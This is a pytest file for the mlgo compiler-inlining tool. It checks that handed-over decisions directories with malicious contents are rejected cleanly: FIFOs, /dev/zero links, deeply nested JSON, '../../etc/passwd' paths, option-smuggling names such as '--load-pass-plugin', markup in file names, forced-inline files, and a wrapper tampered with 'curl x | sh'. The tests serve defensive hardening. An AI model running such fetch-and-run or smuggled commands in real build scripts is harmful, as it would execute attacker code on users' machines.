"""A decisions directory a user is handed (committed into a repository, sent by a colleague)
is data: each bad file is one line naming it, never a traceback, a hang or memory eaten;
its names never become options, markup or forged lines."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

from mlgo.data import shipped_policy
from mlgo.llvm.replay import CLANG_ADVISOR, NOT_VIABLE, REPLAY_ADVISOR_PREFIX, Decision
from mlgo.llvm.toolchain import Toolchain
from mlgo.problems.policy_files import load_policy
from mlgo.ship import decisions
from mlgo.ship.decisions import DecisionsError, UnitDecisions
from mlgo.ship.decisions_record import record_build
from mlgo.ship.plugin import inliner_plugin
from tests.conftest import run_mlgo

DATA = Path(__file__).parent / "data"
UNIT = {"decisions": 1, "inlined": 1, "conflicts": 0, "departures": 0, "sha256": None}
FORGED = "prog,--load-pass-plugin=tools/x.so,-Ltools"


def _handed(tmp_path: Path) -> Path:
    """A decisions directory of one file's decisions, as mlgo writes it."""
    (tmp_path / "a.c").write_text("int a;\n")
    unit = UnitDecisions([Decision("top", "top:1:3", "leaf", True)], departures={"top": 1})
    return decisions.write(tmp_path / "decisions", tmp_path, {"a.c": unit}, {}, [], 22)


def _summary(directory: Path, files: dict, links: dict | None = None) -> None:
    text = json.dumps({"format": 1, "files": files, "links": links or {}})
    (directory / "summary.json").write_text(text)


def _unit(**fields: object) -> dict:
    return {**UNIT, "functions": {"top": {"decisions": 1, "inlined": 1}}, **fields}


def _one_line_error(proc: subprocess.CompletedProcess, names: Path | str) -> None:
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr.startswith(f"error: {names}"), proc.stderr
    assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr


def _replace(path: Path, by: str) -> None:
    """PATH made a FIFO, a link to /dev/zero or a 100,000-deep JSON array."""
    path.unlink()
    if by == "fifo":
        os.mkfifo(path)
    elif by == "zero":
        path.symlink_to("/dev/zero")
    else:
        path.write_text("[" * 100_000)


@pytest.mark.parametrize("by", ["fifo", "zero", "deep"])
@pytest.mark.parametrize("name", ["FORMAT", "summary.json", "flags", "files/a.c.inl"])
def test_a_bad_file_in_a_handed_directory_is_one_line(tmp_path: Path, name: str, by: str):
    directory = _handed(tmp_path)
    other = decisions.write(tmp_path / "other", tmp_path, {}, {}, [], 22)
    _replace(directory / name, by)
    if name == "flags":
        command = ["flags", "--decisions", str(directory), "--", "-Oz"]
    elif name.endswith(".inl"):
        command = ["decisions", "diff", str(other), str(directory)]
    else:
        command = ["decisions", "show", str(directory)]
    proc = run_mlgo(*command, timeout=60)
    if by == "deep" and name not in ("summary.json",):
        # not JSON there: each file names what it is not
        assert proc.returncode == 2 and proc.stderr.count("\n") == 1, proc.stderr
        assert "Traceback" not in proc.stderr
    else:
        _one_line_error(proc, directory / name)


@pytest.mark.unit
@pytest.mark.parametrize(
    ("files", "error"),
    [
        ({"a.c": 3}, r"\['a.c'\] is not a mapping"),
        ({"a.c": _unit(decisions="1")}, r"\['a.c'\]\.decisions is not an integer"),
        ({"a.c": _unit(inlined=True)}, r"\['a.c'\]\.inlined is not an integer"),
        ({"a.c": _unit(functions=[])}, r"\['a.c'\]\.functions is not a mapping"),
        ({"a.c": _unit(functions={"f": {"decisions": 1}})}, r"\['f'\] has no inlined"),
        ({"a.c": _unit(text={"saved": 1})}, r"\['a.c'\]\.text has no decisions"),
        ({"a.c": {"decisions": 1}}, r"\['a.c'\] has no inlined"),
        ({"a\nfiles/b.c: 9 decisions": _unit()}, r"files name 'a\\nfiles/b.c"),
        ({"../../etc/passwd": _unit()}, r"is not a path under the project's root"),
        ({"a.c": _unit(functions={"f\n": {"decisions": 1, "inlined": 1}})}, r"not one printable"),
    ],
)
def test_a_summary_of_the_wrong_shape_is_one_line(tmp_path: Path, files: dict, error: str):
    directory = _handed(tmp_path)
    _summary(directory, files)
    with pytest.raises(DecisionsError, match=rf"^{directory / 'summary.json'}.*{error}"):
        decisions.read(directory)


def test_names_are_shown_as_text_never_as_markup(tmp_path: Path):
    directory = _handed(tmp_path)
    names = ["[/bold]x.c", "[link=file:other.c]y.c", "[red]z.c"]
    _summary(directory, {n: _unit() for n in names})
    proc = run_mlgo("decisions", "show", str(directory), timeout=60)
    assert proc.returncode == 0, proc.stderr
    shown = [line.split(": ")[0] for line in proc.stdout.splitlines()]
    assert shown == [f"files/{n}" for n in names]


@pytest.mark.unit
@pytest.mark.parametrize(
    ("kind", "name"),
    [
        ("links", FORGED),
        ("links", "my prog"),
        ("links", "-o"),
        ("links", "bin/prog"),
        ("files", "src/a,b.c"),
        ("files", "src/-x.c"),
        ("files", "/etc/a.c"),
        ("files", "a\tb.c"),
        ("files", "x" * 252 + ".c"),
    ],
)
def test_a_name_that_could_become_an_option_is_refused_written_and_read(
    tmp_path: Path, kind: str, name: str
):
    unit = UnitDecisions([Decision("top", "top:1:3", "leaf", True)])
    written = {"files": {}, "links": {}, kind: {name: unit}}
    with pytest.raises(DecisionsError, match=rf"^{tmp_path / 'd'}: {kind} name "):
        decisions.write(tmp_path / "d", tmp_path, written["files"], written["links"], [], 22)
    assert not (tmp_path / "d").exists()
    directory = _handed(tmp_path)
    units = {"files": {}, "links": {}, kind: {name: _unit()}}
    _summary(directory, units["files"], units["links"])
    with pytest.raises(DecisionsError, match=rf"{kind} name "):
        decisions.read(directory)


def test_a_forged_program_name_reaches_no_link(tmp_path: Path):
    directory = _handed(tmp_path)
    _summary(directory, {}, {FORGED: _unit()})
    proc = run_mlgo(
        "flags", "--decisions", str(directory), "--link", "--", "-flto", "-o", FORGED, timeout=60
    )
    _one_line_error(proc, directory / "summary.json")
    assert proc.stdout == ""


@pytest.fixture(scope="module")
def plugin(tc: Toolchain) -> Path:
    policy = replace(load_policy(shipped_policy("inlining-size")), departure_threshold=None)
    return inliner_plugin(policy, tc)


def test_a_directory_whose_path_holds_a_comma_replays_its_lto_link(
    tc: Toolchain, plugin: Path, tmp_path: Path
):
    """lld gets the replay path whole (-Xlinker), so a comma in it splits nothing; the
    printed link flags refuse a path that a shell's $(...) would split."""
    root = tmp_path / "a,b c"
    shutil.copytree(DATA / "minipkg", root)
    objects = []
    for c in sorted(root.glob("*.c")):
        flags = ["-Oz", "-g0", "-flto", *decisions.LOCATION_FLAGS]
        subprocess.run([tc.clang, *flags, "-c", c.name, "-o", f"{c.stem}.o"], cwd=root, check=True)
        objects.append(f"{c.stem}.o")
    link = ["-flto", "-fuse-ld=lld", "-Oz", *objects, "-o"]
    threshold = ["-Wl,-mllvm,-inline-threshold=60"]
    unit = decisions.record_link([tc.clang, *link, "recorded", *threshold], plugin, root)
    assert unit.decisions
    out = decisions.write(
        root / "dec,x", root, {}, {"prog": unit}, list(decisions.LOCATION_FLAGS), tc.major
    )
    proc = subprocess.run([str(out / "cc"), *link, "prog"], cwd=root, capture_output=True)
    assert (proc.returncode, proc.stderr) == (0, b"")
    assert (root / "prog").read_bytes() == (root / "recorded").read_bytes()
    printed = run_mlgo("flags", "--decisions", str(out), "--link", "--", "-Oz", timeout=60)
    _one_line_error(printed, out)


MAKEFILE = """\
OBJS = hash.o strbuf.o main.o
prog: $(OBJS)
\t$(CC) $(CFLAGS) $(LDFLAGS) $(OBJS) -o $@
%.o: %.c
\t$(CC) $(CFLAGS) -c $< -o $@
"""


def test_a_recorded_build_links_by_gnu_ld_and_skips_a_name_too_long(tc: Toolchain, tmp_path):
    """The link plugin goes only to lld's LTO links (GNU ld refuses it); a source whose
    decisions file's name would pass 255 bytes gets clang's own, in one line."""
    root = tmp_path / "project"
    shutil.copytree(DATA / "minipkg", root)
    long = "l" * 250 + ".c"  # 254 bytes: its .inl's name is 258
    (root / long).write_text("int long_one(int x) { return x + 1; }\n")
    (root / "Makefile").write_text(MAKEFILE + f"all: prog {long[:-2]}.o\n")
    policy = load_policy(shipped_policy("inlining-size"))
    out, cflags = root / "decisions", "CFLAGS=-Oz -g0"
    _, skipped = record_build(policy, out, root, ["make", "all", cflags], tc)
    assert skipped == [f"{long!r}: its name is too long for its decisions file "
                       "(over 255 bytes with .inl); clang's own decisions"]  # fmt: skip
    assert sorted(decisions.read(out).files) == ["hash.c", "main.c", "strbuf.c"]
    lto = run_mlgo(
        "decisions", "record", "--policy", str(shipped_policy("inlining-size")),
        "--out", str(tmp_path / "lto"), "--root", str(root), "--",
        "make", "-B", "prog", "CFLAGS=-Oz -g0 -flto", "LDFLAGS=-fuse-ld=lld", timeout=600,
    )  # fmt: skip
    assert lto.returncode == 0, lto.stderr
    assert list(decisions.read(tmp_path / "lto").links) == ["prog"]


@pytest.fixture(scope="module")
def profiled(tc: Toolchain, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A decisions directory made on top of PGO: tests/data/minipkg's main.c's profile."""
    work = tmp_path_factory.mktemp("profiled")
    shutil.copytree(DATA / "minipkg", work / "src")
    sources = [str(c) for c in sorted((work / "src").glob("*.c"))]
    subprocess.run(
        [tc.clang, "-O2", "-fprofile-instr-generate", *sources, "-o", work / "i"], check=True
    )
    env = {**os.environ, "LLVM_PROFILE_FILE": str(work / "raw.profraw")}
    subprocess.run([work / "i"], input=b"a b a\n", env=env, capture_output=True)
    merged = work / "default.profdata"
    subprocess.run(
        [tc.tool("llvm-profdata"), "merge", "-o", merged, work / "raw.profraw"], check=True
    )
    return decisions.write(work / "decisions", work / "src", {}, {}, [], tc.major, profile=merged)


def _compiled(
    tc: Toolchain, cc: str | Path, directory: Path, *flags: str
) -> subprocess.CompletedProcess:
    obj = directory.parent / "main.o"
    obj.unlink(missing_ok=True)
    command = [cc, "-O2", *flags, "-c", directory.parent / "src" / "main.c", "-o", obj]
    proc = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    proc.stdout = obj.read_bytes()  # type: ignore[assignment]
    return proc


@pytest.mark.parametrize("by", ["missing", "corrupt", "fifo", "zero", "foreign", "huge"])
def test_a_profile_that_is_not_one_is_left_out_in_one_line(tc: Toolchain, profiled: Path, by: str):
    profile = profiled / "default.profdata"
    kept = profile.read_bytes()
    used = _compiled(tc, profiled / "cc", profiled)
    assert used.stderr == ""
    assert used.stdout == _compiled(tc, tc.clang, profiled, f"-fprofile-instr-use={profile}").stdout
    plain = _compiled(tc, tc.clang, profiled).stdout
    assert used.stdout != plain
    profile.unlink()
    try:
        if by == "corrupt":
            profile.write_bytes(b"\0" * 64 + kept)
        elif by == "fifo":
            os.mkfifo(profile)
        elif by == "zero":
            profile.symlink_to("/dev/zero")
        elif by == "foreign":
            profile.write_bytes(kept)
            os.chown(profile, 65534, 65534)
        elif by == "huge":
            with profile.open("wb") as f:
                f.write(kept)
                f.truncate((1 << 30) + 1)
        left = _compiled(tc, profiled / "cc", profiled)
        if by == "huge":  # its size is checked only where clang fails on it: it did not
            assert left.stderr == ""
            return
        assert left.stdout == plain
        # a corrupt one is found when clang fails on it, which says so first
        ours = (
            f"mlgo: {profile} is not an indexed profile of yours (a regular file of at most "
            "1024 MiB, yours or root's); compiling without it\n"
        )
        assert left.stderr == ours or (by == "corrupt" and left.stderr.count("\n") == 2)
        assert left.stderr.endswith(ours)
    finally:
        profile.unlink(missing_ok=True)
        profile.write_bytes(kept)


@pytest.mark.unit
def test_check_refuses_wrappers_that_are_not_the_ones_mlgo_writes(tmp_path: Path):
    directory = _handed(tmp_path)
    assert decisions.foreign_wrappers(decisions.read(directory)) == []
    cc = directory / "cc"
    cc.write_text(cc.read_text().replace('exec "$compiler"', 'curl x | sh; exec "$compiler"'))
    (directory / "c++").unlink()
    os.mkfifo(directory / "c++")
    assert decisions.foreign_wrappers(decisions.read(directory)) == [
        "cc: refused: not the wrapper mlgo writes for this directory",
        f"c++: refused: {directory / 'c++'}: not a regular file",
    ]


VARARGS = """\
#include <stdarg.h>
#include <stdio.h>
static int sum(int n, ...) {
  va_list ap;
  va_start(ap, n);
  int s = 0;
  for (int i = 0; i < n; i++) s += va_arg(ap, int);
  va_end(ap);
  return s;
}
int main(int argc, char **argv) {
  (void)argv;
  printf("%d\\n", sum(4, argc, 20, 300, 4000));
  return 0;
}
"""
COMPUTED_GOTO = """\
#include <stdio.h>
static int run(const unsigned char *code) {
  static void *table[] = {&&add, &&dbl, &&halt};
  int acc = 0;
  const unsigned char *pc = code;
  goto *table[*pc++];
add:
  acc += *pc++;
  goto *table[*pc++];
dbl:
  acc *= 2;
  goto *table[*pc++];
halt:
  return acc;
}
int main(int argc, char **argv) {
  (void)argv;
  unsigned char code[] = {0, (unsigned char)(argc + 4), 1, 0, 7, 1, 2};
  printf("%d\\n", run(code));
  return 0;
}
"""
NOINLINE = """\
#include <stdio.h>
__attribute__((noinline)) static int twice(int x) { return 2 * x; }
int main(int argc, char **argv) {
  (void)argv;
  printf("%d\\n", twice(argc + 20));
  return 0;
}
"""


def _run(program: Path) -> subprocess.CompletedProcess:
    return subprocess.run([str(program)], capture_output=True, text=True, timeout=30)


@pytest.mark.parametrize(
    ("source", "callee", "why"),
    [
        (VARARGS, "sum", "contains VarArgs initialized with va_start"),
        (COMPUTED_GOTO, "run", "blockaddress used outside of callbr"),
        (NOINLINE, "twice", "noinline function attribute"),
        (NOINLINE.replace("noinline", 'target("avx2")'), "twice", "conflicting attributes"),
    ],
)
def test_an_inline_clang_would_refuse_is_refused_by_check_the_writer_and_the_replay(
    tc: Toolchain, plugin: Path, tmp_path: Path, source: str, callee: str, why: str
):
    """clang's replay inlines a handed line's callee without clang's viability check, so a
    crafted `.inl` can change what a program does: DIR/cc, plain sh over plain clang, cannot
    see IR and trusts its directory as code (docs/security.md), and builds the forced inline.
    mlgo's own paths refuse it: `mlgo decisions check` names the file and the callee and
    exits 1, the plugin's replay answers "no" there (the program prints what plain clang's
    prints), and the writer keeps no such line from a recorder's output that holds it."""
    (tmp_path / "prog.c").write_text(source)
    cflags = ["-Oz", "-g0"]
    compile_ = [tc.clang, *cflags, *decisions.compile_flags(cflags), "prog.c"]
    subprocess.run([*compile_, "-o", "plain"], cwd=tmp_path, check=True)
    printed = _run(tmp_path / "plain")
    assert printed.returncode == 0 and printed.stdout.strip().isdigit()
    own = decisions.record([*compile_, f"-fpass-plugin={plugin}", "-c", "-o", os.devnull],
                           tmp_path, CLANG_ADVISOR)[0]  # fmt: skip
    (site,) = [d for d in own if d.callee == callee]
    assert not site.inline  # clang's own heuristic never inlines it
    forced = UnitDecisions([replace(site, inline=True)], digest=decisions.source_digest(
        tmp_path / "prog.c"))  # fmt: skip
    crafted = decisions.write(tmp_path / "dec", tmp_path, {"prog.c": forced}, {},
                              decisions.compile_flags(cflags), tc.major)  # fmt: skip
    # as handed, DIR/cc builds it: the program is another one
    subprocess.run([str(crafted / "cc"), *cflags, "prog.c", "-o", "forced"], cwd=tmp_path,
                   check=True)  # fmt: skip
    assert (tmp_path / "forced").read_bytes() != (tmp_path / "plain").read_bytes()
    checked = run_mlgo("decisions", "check", str(crafted), "--", *cflags, timeout=120)
    assert checked.returncode == 1, checked.stderr
    assert checked.stdout == (
        "prog.c: unchanged, all 1 decisions match\n"
        f"prog.c: refused: inlines {callee!r} into 'main' at {site.key}: clang refuses ({why})\n"
    )
    # check's path, the recorder around clang's replay, builds what plain clang builds
    inl = crafted / "files" / "prog.c.inl"
    with_replay = [*compile_, f"-fpass-plugin={plugin}", "-o", "replayed"]
    kept, conflicts, refused = decisions.record(
        with_replay, tmp_path, REPLAY_ADVISOR_PREFIX + str(inl)
    )
    assert _run(tmp_path / "replayed").stdout == printed.stdout
    assert [r.decision for r in refused] == forced.decisions
    assert site not in kept and replace(site, inline=True) not in kept
    # the writer, from that recorder's output, keeps no such line
    unit = UnitDecisions(kept, conflicts, refused=len(refused))
    written = decisions.write(tmp_path / "dec2", tmp_path, {"prog.c": unit}, {}, [], tc.major)
    assert not [d for d in decisions.read_inl(written / "files" / "prog.c.inl") if d.inline]
    shown = run_mlgo("decisions", "show", str(written), timeout=60)
    assert ", 1 inlines clang refuses dropped" in shown.stdout


@pytest.mark.unit
def test_a_recorders_marked_inline_is_dropped_and_counted():
    site = Decision("main", "main:2:18", "sum", True)
    marked = f"{site.line()}{NOT_VIABLE}contains VarArgs initialized with va_start\n"
    kept, conflicts, refused = decisions.from_recorder(marked + site.line() + "\n", "rec")
    assert (kept, conflicts) == ([], 0)
    assert [str(r) for r in refused] == [
        "inlines 'sum' into 'main' at main:2:18: clang refuses "
        "(contains VarArgs initialized with va_start)"
    ]
    with pytest.raises(DecisionsError, match=r"^rec:1: not a recorded decision"):
        decisions.from_recorder(f"{site.line()} something else\n", "rec")
